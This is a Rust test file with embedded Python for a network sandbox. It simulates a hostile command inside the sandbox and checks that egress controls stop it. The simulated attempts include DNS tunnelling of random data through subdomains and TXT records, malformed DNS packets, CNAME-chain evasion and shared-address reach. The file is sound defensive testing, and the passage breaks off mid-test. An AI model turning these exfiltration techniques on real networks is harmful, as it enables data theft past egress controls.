//! The attack suite: what a hostile CMD tries, run as root (without capabilities) inside the
//! sandbox, each attempt judged on the far side: the world's counters (`packets_to`,
//! `packets_to_port`, `packets_from`), the world's DNS log, and counters in the uplink (the
//! host) for what is aimed at the host itself. A failing client alone proves nothing.
//!
//! Each test shares one world and one `portcullis run` between many cases: a Python script in
//! the sandbox makes every attempt and prints one `@@ case = outcome` line each. Cases already
//! covered elsewhere are not repeated here: `escape.rs` (namespaces, `ip`/`nft` basics, raw
//! ICMP and packet sockets, other resolvers, hard-coded UDP/TCP/DoT/ICMP), `run_basics.rs`
//! (denied names, subdomains, host services, truncation), `cname_and_ttl.rs` (CNAME to an
//! unlisted name, expiry) and `first_packet.rs`. `docs/security.md` says what each proves.

#![allow(clippy::unwrap_used)]

mod common;

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
use std::process::Output;
use std::time::Duration;

use common::*;

/// Allowed in every test, so that the scripts can show the relay still answers.
const PROBE: &str = "probe.test";
const PROBE4: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 9);
/// Hard-coded destinations no rule allows.
const HARD4: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 99);
const HARD6: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 0x99);

fn v4(host: u8) -> Ipv4Addr {
    Ipv4Addr::new(198, 51, 100, host)
}

fn v6(host: u16) -> Ipv6Addr {
    Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, host)
}

/// `v4` as an `IpAddr`, for the world's counters.
fn ip4(host: u8) -> IpAddr {
    v4(host).into()
}

fn ip6(host: u16) -> IpAddr {
    v6(host).into()
}

/// Helpers of every script: raw DNS over UDP and TCP to the sandbox's resolver, connection
/// attempts, and `result`, which prints the `@@ case = outcome` line the test reads.
const PRELUDE_PY: &str = r#"
import ctypes, errno, os, socket, struct, subprocess, sys, time

RESOLVER = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
PROBE = "probe.test"
RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
_ids = [0x1000]

def result(case, outcome):
    print("@@ %s = %s" % (case, outcome), flush=True)

def new_id():
    _ids[0] += 1
    return _ids[0]

def wire_name(name):
    labels = [l.encode() for l in name.split(".") if l] if isinstance(name, str) else name
    return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"

def header(qid, flags=0x0100, qd=1, an=0, ns=0, ar=0):
    return struct.pack("!HHHHHH", qid, flags, qd, an, ns, ar)

def query(name, qtype=1, qid=None, flags=0x0100, qclass=1):
    qid = new_id() if qid is None else qid
    return header(qid, flags) + wire_name(name) + struct.pack("!HH", qtype, qclass)

def skip_name(m, i):
    while True:
        n = m[i]
        if n == 0:
            return i + 1
        if n & 0xC0 == 0xC0:
            return i + 2
        i += n + 1

def parse_reply(m):
    qid, flags, qd, an = struct.unpack("!HHHH", m[:8])
    i, answers = 12, []
    for _ in range(qd):
        i = skip_name(m, i) + 4
    for _ in range(an):
        i = skip_name(m, i)
        rtype, _, ttl, size = struct.unpack("!HHIH", m[i:i + 10])
        data = m[i + 10:i + 10 + size]
        i += 10 + size
        if rtype == 1:
            data = socket.inet_ntop(socket.AF_INET, data)
        elif rtype == 28:
            data = socket.inet_ntop(socket.AF_INET6, data)
        answers.append((rtype, ttl, data))
    return {"id": qid, "rcode": RCODES.get(flags & 15, str(flags & 15)),
            "tc": bool(flags & 0x200), "answers": answers}

def framed(msg):
    return struct.pack("!H", len(msg)) + msg

def read_framed(conn):
    data = b""
    while len(data) < 2:
        chunk = conn.recv(2 - len(data))
        if not chunk:
            return None
        data += chunk
    size, data = struct.unpack("!H", data)[0], b""
    while len(data) < size:
        chunk = conn.recv(size - len(data))
        if not chunk:
            return None
        data += chunk
    return data

def exchange_udp(msg, timeout=3):
    """The relay's parsed answer to `msg`, or None."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(timeout)
        s.connect((RESOLVER, 53))
        s.send(msg)
        try:
            while True:
                r = s.recv(65535)
                if r[:2] == msg[:2]:
                    return parse_reply(r)
        except socket.timeout:
            return None

def exchange_tcp(msg, timeout=3):
    with socket.create_connection((RESOLVER, 53), timeout=timeout) as c:
        c.sendall(framed(msg))
        try:
            r = read_framed(c)
        except socket.timeout:
            return None
        return parse_reply(r) if r else None

def ask_udp(msg, probe=True):
    """The rcode the relay answers `msg` with over UDP, or "silent". With `probe`, a valid query
    follows on the same socket and must be answered: its upstream round trip is the bound on
    how long a reply to `msg` could take."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.connect((RESOLVER, 53))
        s.send(msg)
        pid = new_id()
        if probe:
            s.send(query(PROBE, qid=pid))
        reply, probed = None, not probe
        while reply is None or not probed:
            try:
                r = s.recv(65535)
            except socket.timeout:
                break
            if probe and r[:2] == struct.pack("!H", pid):
                probed = True
                s.settimeout(0.2)
            elif len(msg) >= 2 and r[:2] == msg[:2]:
                reply = parse_reply(r)
        outcome = reply["rcode"] if reply else "silent"
        return outcome if probed else outcome + ", and then the relay stopped answering"

def ask_tcp(msg, probe=True):
    """Like ask_udp, over one TCP connection; the relay answers a connection's queries in
    order, so a probe answered first means `msg` got no answer."""
    with socket.create_connection((RESOLVER, 53), timeout=3) as c:
        pid = new_id()
        c.sendall(framed(msg) + (framed(query(PROBE, qid=pid)) if probe else b""))
        try:
            first = read_framed(c)
            if first is None:
                return "closed"
            if probe and first[:2] == struct.pack("!H", pid):
                return "silent"
            outcome = parse_reply(first)["rcode"]
            if probe:
                second = read_framed(c)
                if second is None or second[:2] != struct.pack("!H", pid):
                    outcome += ", and then the relay stopped answering"
            return outcome
        except socket.timeout:
            return "timed out"

def resolve(name, family=socket.AF_UNSPEC):
    try:
        infos = socket.getaddrinfo(name, None, family, socket.SOCK_STREAM)
        return sorted({i[4][0] for i in infos})
    except socket.gaierror as e:
        return "failed: %s" % e.strerror

def connect(address, port, timeout=2, family=None, send=b""):
    family = family or (socket.AF_INET6 if ":" in address else socket.AF_INET)
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(timeout)
            s.connect((address, port))
            if send:
                s.sendall(send)
                return "connected: " + s.recv(200).decode(errors="replace").split("\r\n")[0]
            return "connected"
    except OSError as e:
        return "failed: %s" % (e.strerror or e)

def send_udp(address, port, payload=b"x", proto=0, options=()):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_DGRAM, proto) as s:
            for level, name, value in options:
                s.setsockopt(level, name, value)
            s.sendto(payload, (address, port))
            return "sent"
    except OSError as e:
        return "failed: %s" % (e.strerror or e)

def joined(outcomes):
    return ", ".join(sorted(set(outcomes)))

def concurrently(attempts):
    """Makes every (case, function) attempt at once, so that attempts that time out share one
    timeout, then reports each."""
    import threading
    outcomes = {}
    def attempt(case, function):
        try:
            outcomes[case] = function()
        except Exception as e:
            outcomes[case] = "error: %r" % e
    threads = [threading.Thread(target=attempt, args=a) for a in attempts]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for case, _ in attempts:
        result(case, outcomes[case])
"#;

/// Runs `PRELUDE_PY` + `body` with `args` as CMD and returns the run's output and the
/// outcome of every case, by name.
fn cases_in_sandbox(
    world: &World,
    extra: &[&str],
    body: &str,
    args: &[&str],
) -> (Output, BTreeMap<String, String>) {
    let script = format!("{PRELUDE_PY}\n{body}");
    let out = run(world, extra, &python(&script, args));
    let cases = parse_cases(&stdout(&out));
    (out, cases)
}

fn parse_cases(text: &str) -> BTreeMap<String, String> {
    let mut cases = BTreeMap::new();
    for line in text.lines() {
        if let Some(rest) = line.strip_prefix("@@ ") {
            let (case, outcome) = rest.split_once(" = ").expect("@@ case = outcome");
            let previous = cases.insert(case.to_owned(), outcome.to_owned());
            assert!(previous.is_none(), "case {case:?} reported twice");
        }
    }
    cases
}

/// Every case has the outcome expected of it; all mismatches are listed at once.
fn check(cases: &BTreeMap<String, String>, expected: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (case, outcome) in expected {
        match cases.get(*case) {
            Some(got) if got == outcome => {}
            Some(got) => wrong.push(format!("{case}: expected {outcome:?}, got {got:?}")),
            None => wrong.push(format!("{case}: never reported")),
        }
    }
    let known: Vec<&str> = expected.iter().map(|(c, _)| *c).collect();
    for case in cases.keys() {
        if !known.contains(&case.as_str()) {
            wrong.push(format!("{case}: reported but not checked"));
        }
    }
    assert!(wrong.is_empty(), "cases:\n  {}", wrong.join("\n  "));
}

/// Waits as long as a packet could still be on its way, then reads a counter that must
/// have stayed at zero.
fn settled_zero(what: &str, mut count: impl FnMut() -> u64) {
    let moved = wait_until(Duration::from_millis(300), || count() > 0);
    assert!(!moved, "{what}: {} packet(s) arrived", count());
}

fn write_policy(world: &World, text: &str) -> String {
    let path = world.run_dir().join("policy.toml");
    std::fs::write(&path, text).unwrap();
    path.to_str().unwrap().to_owned()
}

// ------------------------------------------------------------------------------------------
// DNS as a channel: tunnels, malformed and odd queries.
// ------------------------------------------------------------------------------------------

/// `ok.test` is allowed exactly, `*.wild.test` one label deep, `**.deep.test` any depth.
const DNS_PY: &str = r#"
secret = os.urandom(24).hex()
chunks = [secret[i:i + 24] for i in range(0, len(secret), 24)]
result("payload chunks", ",".join(chunks))
malformed = 0

# Data in labels under an exact name: denied, whatever the type, transport or case.
names = ["%s.ok.test" % c for c in chunks] + [".".join(chunks) + ".ok.test",
         "x" * 63 + ".ok.test", "%s.Ok.TeSt" % chunks[0]]
outcomes = []
for n in names:
    for qtype in (1, 28, 16):
        outcomes.append(ask_udp(query(n, qtype), probe=False))
    outcomes.append(ask_tcp(query(n, 16), probe=False))
result("tunnel through subdomains of an exact name", joined(outcomes))

# TXT, the usual tunnel record, for a denied name and data under it.
outcomes = [ask_udp(query("%s.denied.test" % c, 16), probe=False) for c in chunks]
outcomes += [ask_udp(query("denied.test", 16), probe=False),
             ask_tcp(query("%s.denied.test" % chunks[0], 16), probe=False)]
result("TXT tunnel through a denied name", joined(outcomes))

# Every other type, class, and the reverse tree: a denied name never leaves.
types = (2, 5, 6, 10, 12, 15, 33, 35, 64, 65, 99, 251, 252, 255, 257, 0, 65535)
outcomes = [ask_udp(query("denied.test", t), probe=False) for t in types]
outcomes += [ask_tcp(query("denied.test", 252), probe=False),
             ask_udp(query("version.bind", 16, qclass=3), probe=False),
             ask_udp(query("99.100.51.198.in-addr.arpa", 12), probe=False)]
result("any type or class of a denied name", joined(outcomes))

# A wildcard pattern lets one label of data through, to the world's DNS: documented.
outcomes = [ask_udp(query("%s.wild.test" % c, 16), probe=False) for c in chunks]
result("one label of data under a wildcard", joined(outcomes))
outcomes = [ask_udp(query("%s.%s.wild.test" % (c, c), 16), probe=False) for c in chunks]
result("two labels of data under a one-label wildcard", joined(outcomes))

# Several questions: FORMERR, and neither name leaves.
two = header(0xA001, qd=2) + wire_name("mq.wild.test") + b"\0\1\0\1" \
      + wire_name("denied.test") + b"\0\1\0\1"
result("two questions over UDP", ask_udp(two))
two = header(0xA002, qd=2) + wire_name("mq2.wild.test") + b"\0\x10\0\1" \
      + wire_name("mq2.wild.test") + b"\0\x10\0\1"
result("two questions over TCP", ask_tcp(two))
malformed += 2

# Messages that are not a query the relay can forward, each followed by a valid one.
bad = {
    "shorter than a header": b"\xa0\x03\x01",
    "a response (QR set)": query("qr.wild.test", qid=0xA004, flags=0x8100),
    "no question": header(0xA005, qd=0),
    "compression loop": header(0xA006) + b"\xc0\x0c\0\1\0\1",
    "label past the end": header(0xA007) + b"\x3fabc",
    "question without type": header(0xA008) + wire_name("cut.wild.test"),
    "pointer out of range": header(0xA009) + b"\xff" * 20,
    "an answer in the query": header(0xA00A, an=1) + wire_name("an.wild.test")
        + b"\0\1\0\1\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xc6\x33\x64\x63",
    "an authority in the query": header(0xA00B, ns=1) + wire_name("ns.wild.test")
        + b"\0\1\0\1\xc0\x0c\0\2\0\1\0\0\0\x3c\0\2\xc0\x0c",
    "opcode IQUERY": query("iq.wild.test", qid=0xA00C, flags=0x0900),
    "opcode STATUS": query("st.wild.test", qid=0xA00D, flags=0x1100),
    "opcode NOTIFY": query("nf.wild.test", qid=0xA00E, flags=0x2100),
    "opcode UPDATE": query("up.wild.test", qid=0xA00F, flags=0x2900),
    # 5 labels of 63 bytes: 321 bytes on the wire, past DNS's 255.
    "name over 255 bytes": query([b"a" * 63] * 5 + [b"deep", b"test"], qid=0xA010),
}
for case, msg in bad.items():
    result("malformed over UDP: " + case, ask_udp(msg))
    result("malformed over TCP: " + case, ask_tcp(msg))
    malformed += 2
result("malformed over TCP: empty message", ask_tcp(b""))
malformed += 1
with socket.create_connection((RESOLVER, 53), timeout=3) as c:
    c.sendall(b"\x00\x40" + query("eof.wild.test")[:20])
    c.shutdown(socket.SHUT_WR)
    result("malformed over TCP: length past the end of the stream",
           "closed" if not c.recv(100) else "answered")

# Bytes no hostname has, in the label a wildcard would match: denied, never forwarded.
odd = {"NUL": b"a\x00b", "space": b"a b", "UTF-8": "é".encode(), "star": b"*",
       "dot": b"a.b", "backslash": b"a\\b", "at": b"a@b", "DEL": b"\x7f",
       "0xff": b"\xff\xff", "slash": b"a/b", "colon": b"a:b", "63 x 0xc0": b"\xc0" * 63}
for case, label in odd.items():
    result("label with %s" % case, ask_udp(query([label, b"wild", b"test"], 16), probe=False))
result("label with NUL over TCP", ask_tcp(query([b"\x00", b"wild", b"test"]), probe=False))
# One label spelling an allowed name: "ok.test" as a single label is not ok.test.
result("one label spelling an allowed name", ask_udp(query([b"ok.test"]), probe=False))
result("the root name", ask_udp(query([]), probe=False))

# After all of it, the relay still answers.
answer = exchange_udp(query("ok.test"))
result("valid query afterwards over UDP", "%s %s" % (answer["rcode"], [a[2] for a in answer["answers"]]))
answer = exchange_tcp(query("ok.test"))
result("valid query afterwards over TCP", "%s %s" % (answer["rcode"], [a[2] for a in answer["answers"]]))
result("malformed sent", str(malformed))
"#;

#[test]
fn dns_tunnels_and_malformed_queries_never_reach_the_world() {
    let world = World::new(
        &Zone::new()
            .a(PROBE, PROBE4, 300)
            .a("ok.test", v4(10), 300)
            .txt("ok.test", "ok", 300)
            .a("denied.test", v4(20), 300)
            .txt("denied.test", "secret", 300)
            .a("mq.wild.test", v4(21), 300)
            .a("mq2.wild.test", v4(22), 300),
    );
    let report = world.run_dir().join("report.json");
    let (out, cases) = cases_in_sandbox(
        &world,
        &[
            "--allow",
            PROBE,
            "--allow",
            "ok.test",
            "--allow",
            "*.wild.test",
            "--allow",
            "**.deep.test",
            "--report",
            report.to_str().unwrap(),
        ],
        DNS_PY,
        &[],
    );
    assert_eq!(out.status.code(), Some(0));
    let chunks: Vec<String> = cases["payload chunks"]
        .split(',')
        .map(str::to_owned)
        .collect();
    let mut expected: Vec<(&str, &str)> = vec![
        ("payload chunks", &cases["payload chunks"]),
        ("tunnel through subdomains of an exact name", "NXDOMAIN"),
        ("TXT tunnel through a denied name", "NXDOMAIN"),
        ("any type or class of a denied name", "NXDOMAIN"),
        // The world's own NXDOMAIN: the query reached it (see the DNS log check below).
        ("one label of data under a wildcard", "NXDOMAIN"),
        ("two labels of data under a one-label wildcard", "NXDOMAIN"),
        ("two questions over UDP", "FORMERR"),
        ("two questions over TCP", "FORMERR"),
        ("malformed over TCP: empty message", "silent"),
        (
            "malformed over TCP: length past the end of the stream",
            "closed",
        ),
        ("label with NUL over TCP", "NXDOMAIN"),
        ("one label spelling an allowed name", "NXDOMAIN"),
        ("the root name", "NXDOMAIN"),
        (
            "valid query afterwards over UDP",
            "NOERROR ['198.51.100.10']",
        ),
        (
            "valid query afterwards over TCP",
            "NOERROR ['198.51.100.10']",
        ),
        // 2 with two questions, 14 kinds twice (UDP, TCP), 1 empty TCP message.
        ("malformed sent", "31"),
    ];
    let bad: [(&str, &str); 14] = [
        ("shorter than a header", "silent"),
        ("a response (QR set)", "silent"),
        ("no question", "FORMERR"),
        ("compression loop", "FORMERR"),
        ("label past the end", "FORMERR"),
        ("question without type", "FORMERR"),
        ("pointer out of range", "FORMERR"),
        ("an answer in the query", "FORMERR"),
        ("an authority in the query", "FORMERR"),
        ("opcode IQUERY", "NOTIMP"),
        ("opcode STATUS", "NOTIMP"),
        ("opcode NOTIFY", "NOTIMP"),
        ("opcode UPDATE", "NOTIMP"),
        ("name over 255 bytes", "FORMERR"),
    ];
    let bad_cases: Vec<(String, &str)> = bad
        .iter()
        .flat_map(|(case, rcode)| {
            ["UDP", "TCP"].map(|t| (format!("malformed over {t}: {case}"), *rcode))
        })
        .collect();
    expected.extend(bad_cases.iter().map(|(c, r)| (c.as_str(), *r)));
    let odd = [
        "NUL",
        "space",
        "UTF-8",
        "star",
        "dot",
        "backslash",
        "at",
        "DEL",
        "0xff",
        "slash",
        "colon",
        "63 x 0xc0",
    ];
    let odd_cases: Vec<String> = odd.iter().map(|o| format!("label with {o}")).collect();
    expected.extend(odd_cases.iter().map(|c| (c.as_str(), "NXDOMAIN")));
    check(&cases, &expected);

    // Far side: the world's DNS saw the probe and the valid queries for ok.test, and the one
    // label of data a wildcard lets through (documented), and nothing else at all.
    let one_label: Vec<String> = chunks.iter().map(|c| format!("{c}.wild.test")).collect();
    let mut unexpected = Vec::new();
    for (name, qtype) in world.dns_queries() {
        let fine = match qtype.as_str() {
            "A" => name == PROBE || name == "ok.test",
            "TXT" => one_label.contains(&name),
            _ => false,
        };
        if !fine {
            unexpected.push(format!("{name} {qtype}"));
        }
    }
    assert!(unexpected.is_empty(), "the world's DNS saw {unexpected:?}");
    let asked = world.dns_queries();
    for name in &one_label {
        assert!(asked.contains(&(name.clone(), "TXT".into())), "{name}");
    }
    // Nothing but DNS left the uplink: no address was opened for anything else.
    assert_eq!(world.packets_to(ip4(20)), 0);
    assert_eq!(world.packets_to(ip4(21)), 0);
    assert_eq!(world.packets_to(ip4(22)), 0);

    let json = read_report(&report);
    assert_eq!(
        json["malformed_queries"].to_string(),
        cases["malformed sent"],
        "every malformed query was counted"
    );
    assert_eq!(json["failed_names"], serde_json::json!({}));
    assert!(json["denied_names"]["denied.test"].as_u64().unwrap() > 10);
}

// ------------------------------------------------------------------------------------------
// CNAME loops, long chains, denied heads and links, truncated answers.
// ------------------------------------------------------------------------------------------

const CNAME_PY: &str = r#"
def chain_summary(reply):
    if reply is None:
        return "no answer"
    cnames = sum(1 for a in reply["answers"] if a[0] == 5)
    addresses = [a[2] for a in reply["answers"] if a[0] in (1, 28)]
    return "%s, %d CNAME(s), addresses %s" % (reply["rcode"], cnames, addresses)

result("CNAME loop over UDP", chain_summary(exchange_udp(query("loop.test"))))
result("CNAME loop over TCP", chain_summary(exchange_tcp(query("loop.test", 28))))
result("resolver on a CNAME loop", str(resolve("loop.test")))

# 20 links: the world's server gives 16 CNAMEs and no address; the resolver would go on
# asking for the last name, which no rule allows.
result("20-link chain", chain_summary(exchange_udp(query("c0.chain.test"))))
result("20-link chain: ask the 16th link", ask_udp(query("c16.chain.test"), probe=False))
result("20-link chain: ask the end", ask_udp(query("c20.chain.test"), probe=False))
result("12-link chain", str(resolve("d0.short.test", socket.AF_INET)))
# Before anything below is resolved, the allowed target's address is closed.
concurrently([
    ("20-link chain: connect to its end", lambda: connect("198.51.100.70", 7001)),
    ("12-link chain: connect", lambda: connect("198.51.100.71", 7001)),
    ("before: connect to the allowed target", lambda: connect("198.51.100.72", 7002)),
])

# A denied name that is a CNAME to an allowed one; an allowed name whose chain runs through
# an explicitly denied one; a truncated answer, which carries no address.
result("denied name CNAME to an allowed one", ask_udp(query("evil.test"), probe=False))
result("denied name CNAME to an allowed one over TCP", ask_tcp(query("evil.test"), probe=False))
result("allowed name CNAME through a denied one", ask_udp(query("www.good.test"), probe=False))
reply = exchange_udp(query("tc.test"))
result("truncated over UDP", "tc=%s addresses=%d" % (reply["tc"], len(reply["answers"])))
concurrently([
    ("after the denied head: connect", lambda: connect("198.51.100.72", 7003)),
    ("through a denied link: connect", lambda: connect("198.51.100.73", 7005)),
    ("truncated: connect before the TCP retry", lambda: connect("198.51.100.74", 7006)),
])

# The allowed target by its own name, and the TCP retry of the truncated answer, do open.
result("the allowed target itself", str(resolve("target.test", socket.AF_INET)))
result("truncated: TCP retry", chain_summary(exchange_tcp(query("tc.test"))))
concurrently([
    ("after the allowed target: connect", lambda: connect("198.51.100.72", 7004)),
    ("truncated: connect after the TCP retry", lambda: connect("198.51.100.74", 7007)),
])
result("relay answers afterwards", ask_udp(query(PROBE), probe=False))
"#;

#[test]
fn cname_loops_chains_and_denied_links_open_nothing() {
    let mut zone = Zone::new()
        .a(PROBE, PROBE4, 300)
        .cname("loop.test", "loop2.test", 300)
        .cname("loop2.test", "loop.test", 300)
        .a("c20.chain.test", v4(70), 300)
        .a("d12.short.test", v4(71), 300)
        .cname("evil.test", "target.test", 300)
        .a("target.test", v4(72), 300)
        .cname("www.good.test", "tracker.bad.test", 300)
        .a("tracker.bad.test", v4(73), 300)
        .a("tc.test", v4(74), 300)
        .truncated("tc.test");
    for i in 0..20 {
        zone = zone.cname(
            &format!("c{i}.chain.test"),
            &format!("c{}.chain.test", i + 1),
            300,
        );
    }
    for i in 0..12 {
        zone = zone.cname(
            &format!("d{i}.short.test"),
            &format!("d{}.short.test", i + 1),
            300,
        );
    }
    let world = World::new(&zone);
    world.serve_tcp(7001);
    for port in 7002..=7007 {
        world.serve_tcp(port);
    }
    let policy = write_policy(
        &world,
        r#"
[[allow]]
domains = ["probe.test", "loop.test", "c0.chain.test", "d0.short.test", "target.test",
           "www.good.test", "tc.test"]

[[deny]]
domain = "**.bad.test"
"#,
    );
    let (out, cases) = cases_in_sandbox(&world, &["--policy", &policy], CNAME_PY, &[]);
    assert_eq!(out.status.code(), Some(0));
    let refused = "failed: timed out";
    check(
        &cases,
        &[
            ("CNAME loop over UDP", "NOERROR, 2 CNAME(s), addresses []"),
            ("CNAME loop over TCP", "NOERROR, 2 CNAME(s), addresses []"),
            (
                "resolver on a CNAME loop",
                "failed: Name or service not known",
            ),
            ("20-link chain", "NOERROR, 16 CNAME(s), addresses []"),
            ("20-link chain: connect to its end", refused),
            ("20-link chain: ask the 16th link", "NXDOMAIN"),
            ("20-link chain: ask the end", "NXDOMAIN"),
            ("12-link chain", "['198.51.100.71']"),
            ("12-link chain: connect", "connected"),
            ("before: connect to the allowed target", refused),
            ("denied name CNAME to an allowed one", "NXDOMAIN"),
            ("denied name CNAME to an allowed one over TCP", "NXDOMAIN"),
            ("after the denied head: connect", refused),
            ("the allowed target itself", "['198.51.100.72']"),
            ("after the allowed target: connect", "connected"),
            ("allowed name CNAME through a denied one", "NXDOMAIN"),
            ("through a denied link: connect", refused),
            ("truncated over UDP", "tc=True addresses=0"),
            ("truncated: connect before the TCP retry", refused),
            (
                "truncated: TCP retry",
                "NOERROR, 0 CNAME(s), addresses ['198.51.100.74']",
            ),
            ("truncated: connect after the TCP retry", "connected"),
            ("relay answers afterwards", "NOERROR"),
        ],
    );

    // Far side, per destination and port.
    assert_eq!(world.packets_to(ip4(70)), 0, "the end of a 20-link chain");
    assert!(world.packets_to_port(ip4(71), "tcp", 7001) > 0);
    for port in [7002, 7003] {
        assert_eq!(
            world.packets_to_port(ip4(72), "tcp", port),
            0,
            "port {port}"
        );
    }
    assert!(world.packets_to_port(ip4(72), "tcp", 7004) > 0);
    assert_eq!(world.packets_to(ip4(73)), 0, "through a denied link");
    assert_eq!(world.packets_to_port(ip4(74), "tcp", 7006), 0);
    assert!(world.packets_to_port(ip4(74), "tcp", 7007) > 0);
    // The world's DNS never heard of the denied head or of the chain's tail; it did answer
    // the allowed head whose chain runs through a denied name.
    let asked: Vec<String> = world.dns_queries().into_iter().map(|(n, _)| n).collect();
    for never in [
        "evil.test",
        "c16.chain.test",
        "c20.chain.test",
        "tracker.bad.test",
    ] {
        assert!(!asked.iter().any(|n| n == never), "{never} in {asked:?}");
    }
    assert!(asked.iter().any(|n| n == "www.good.test"));
    let err = stderr(&out);
    assert!(err.contains("denied   evil.test (2 queries)"), "{err}");
    assert!(err.contains("denied   www.good.test (1 query)"), "{err}");
    assert!(err.contains("denied   c16.chain.test (1 query)"), "{err}");
}

// ------------------------------------------------------------------------------------------
// Answer lifetimes, RRsets, shared addresses, ports and families.
// ------------------------------------------------------------------------------------------

const ANSWERS_PY: &str = r#"
# TTL 0 and 1 are released as they are; the elements live --min-ttl (60 s) all the same.
ttls = []
for name, qtype in (("ttl0.test", 1), ("ttl1.test", 1), ("ttl1.test", 28)):
    reply = exchange_udp(query(name, qtype))
    ttls.append("%s/%d ttl=%s" % (name, qtype, [a[1] for a in reply["answers"]]))
result("TTL of the released answers", "; ".join(ttls))
addresses = {
    "rot": resolve("rot.test"),
    "other": resolve("other.test"),
    "shared": resolve("shared.test", socket.AF_INET),
    "api": resolve("api.test"),
    "v4only": resolve("v4only.test"),
}
time.sleep(2.5)  # past TTL + 1 s of grace
quic = b"\xc3\x00\x00\x00\x01" + os.urandom(1195)
concurrently([
    ("TTL 0: connect 2.5 s later", lambda: connect("198.51.100.80", 7010)),
    ("TTL 1: connect 2.5 s later", lambda: connect("198.51.100.81", 7010)),
    ("TTL 1 (IPv6): connect 2.5 s later", lambda: connect("2001:db8::81", 7010)),
    # Every address of an RRset opens, in whatever order it comes.
    ("RRset of 4 A and 2 AAAA", lambda: str(len(addresses["rot"]))),
    ("every address of the RRset", lambda: joined(connect(a, 7010) for a in addresses["rot"])),
    # Another name on an allowed name's address: denied by name, reachable by address.
    ("other name on a shared address", lambda: str(addresses["other"])),
    ("allowed name on the shared address", lambda: str(addresses["shared"])),
    ("shared address with Host: other.test", lambda: connect(
        "198.51.100.86", 80, send=b"GET / HTTP/1.0\r\nHost: other.test\r\n\r\n")),
    # A name allowed for TCP 443 only: other ports and UDP 443 (QUIC) stay closed.
    ("port-limited name", lambda: str(addresses["api"])),
    ("port-limited name: TCP 443", lambda: connect("198.51.100.87", 443)),
    ("port-limited name: TCP 443 over IPv6", lambda: connect("2001:db8::87", 443)),
    ("port-limited name: TCP 80", lambda: connect("198.51.100.87", 80)),
    ("port-limited name: QUIC-like UDP 443", lambda: send_udp("198.51.100.87", 443, quic)),
    ("port-limited name: QUIC-like UDP 443 over IPv6", lambda: send_udp("2001:db8::87", 443, quic)),
    # A name with IPv4 only: IPv6 to the same host is not opened by it.
    ("IPv4-only name", lambda: str(addresses["v4only"])),
    ("IPv4-only name: connect", lambda: connect("198.51.100.88", 7010)),
    ("IPv4-only name: its host over IPv6", lambda: connect("2001:db8::88", 7010)),
])
"#;

#[test]
fn ttls_rrsets_shared_addresses_and_port_limits() {
    let world = World::new(
        &Zone::new()
            .a(PROBE, PROBE4, 300)
            .a("ttl0.test", v4(80), 0)
            .a("ttl1.test", v4(81), 1)
            .aaaa("ttl1.test", v6(0x81), 1)
            .a("rot.test", v4(82), 300)
            .a("rot.test", v4(83), 300)
            .a("rot.test", v4(84), 300)
            .a("rot.test", v4(85), 300)
            .aaaa("rot.test", v6(0x82), 300)
            .aaaa("rot.test", v6(0x83), 300)
            .a("shared.test", v4(86), 300)
            .a("other.test", v4(86), 300)
            .a("api.test", v4(87), 300)
            .aaaa("api.test", v6(0x87), 300)
            .a("v4only.test", v4(88), 300),
    );
    for port in [7010, 443] {
        world.serve_tcp(port);
    }
    world.serve_http(80);
    world.serve_udp(443);
    let policy = write_policy(
        &world,
        r#"
[[allow]]
domains = ["probe.test", "ttl0.test", "ttl1.test", "rot.test", "shared.test", "v4only.test"]

[[allow]]
domain = "api.test"
ports = [443]
protocols = ["tcp"]
"#,
    );
    let (out, cases) = cases_in_sandbox(&world, &["--policy", &policy], ANSWERS_PY, &[]);
    assert_eq!(out.status.code(), Some(0));
    let refused = "failed: timed out";
    check(
        &cases,
        &[
            (
                "TTL of the released answers",
                "ttl0.test/1 ttl=[0]; ttl1.test/1 ttl=[1]; ttl1.test/28 ttl=[1]",
            ),
            ("TTL 0: connect 2.5 s later", "connected"),
            ("TTL 1: connect 2.5 s later", "connected"),
            ("TTL 1 (IPv6): connect 2.5 s later", "connected"),
            ("RRset of 4 A and 2 AAAA", "6"),
            ("every address of the RRset", "connected"),
            (
                "other name on a shared address",
                "failed: Name or service not known",
            ),
            ("allowed name on the shared address", "['198.51.100.86']"),
            (
                "shared address with Host: other.test",
                "connected: HTTP/1.0 200 OK",
            ),
            ("port-limited name", "['198.51.100.87', '2001:db8::87']"),
            ("port-limited name: TCP 443", "connected"),
            ("port-limited name: TCP 443 over IPv6", "connected"),
            ("port-limited name: TCP 80", refused),
            ("port-limited name: QUIC-like UDP 443", "sent"),
            ("port-limited name: QUIC-like UDP 443 over IPv6", "sent"),
            ("IPv4-only name", "['198.51.100.88']"),
            ("IPv4-only name: connect", "connected"),
            ("IPv4-only name: its host over IPv6", refused),
        ],
    );

    for addr in [ip4(80), ip4(81), ip6(0x81)] {
        assert!(world.packets_to_port(addr, "tcp", 7010) > 0, "{addr}");
    }
    let rrset = [ip4(82), ip4(83), ip4(84), ip4(85), ip6(0x82), ip6(0x83)];
    for addr in rrset {
        assert!(world.packets_to_port(addr, "tcp", 7010) > 0, "{addr}");
    }
    // Shared addresses are not protected (docs/security.md): the other name's site was
    // reached, though its name was never resolved upstream.
    assert!(world.packets_to_port(ip4(86), "tcp", 80) > 0);
    assert!(!world.dns_queries().iter().any(|(n, _)| n == "other.test"));
    for addr in [ip4(87), ip6(0x87)] {
        assert!(world.packets_to_port(addr, "tcp", 443) > 0, "{addr}");
        settled_zero(&format!("{addr} tcp/80"), || {
